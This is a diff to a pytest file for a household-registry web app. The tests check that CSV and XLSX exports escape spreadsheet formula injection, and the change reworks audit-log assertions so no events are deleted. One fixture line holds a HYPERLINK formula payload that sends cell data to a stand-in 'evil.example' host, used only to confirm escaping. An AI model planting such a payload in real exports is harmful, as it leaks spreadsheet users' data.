@@ -15,6 +15,12 @@ EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 VILLAGE = "533301205201"
 
 
+def new_events():
+    """Audit events recorded from now on (the log is append-only: nothing can be cleared)."""
+    last = AuditEvent.objects.order_by("-id").values_list("id", flat=True).first() or 0
+    return AuditEvent.objects.filter(id__gt=last)
+
+
 @pytest.mark.parametrize("value, shown", [
     (EVIL, "'" + EVIL), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
     ("\r=1", "'\r=1"), ("-12.5", "-12.5"), ("+86", "+86"), ("张三", "张三"), ("13\x0012", "1312"), (5, 5),
@@ -40,10 +46,10 @@ def evil_head(households):
 
 def test_household_list_csv_and_xlsx(users, evil_head):
     c = client_for(users["county"])
-    AuditEvent.objects.filter(action="export").delete()
+    events = new_events()
     body = b"".join(c.get("/households/", {"format": "csv"}).streaming_content).decode("utf-8-sig")
     assert "'=HYPERLINK" in body and ',"=HYPERLINK' not in body and "\n=HYPERLINK" not in body
-    ev = AuditEvent.objects.get(action="export", object_type="registry.household")
+    ev = events.get(action="export", object_type="registry.household")
     assert ev.channel == "web" and ev.ip == "127.0.0.1"
     wb = load_workbook(io.BytesIO(c.get("/households/", {"format": "xlsx"}).content))
     values = [v for row in wb.active.iter_rows(values_only=True) for v in row]
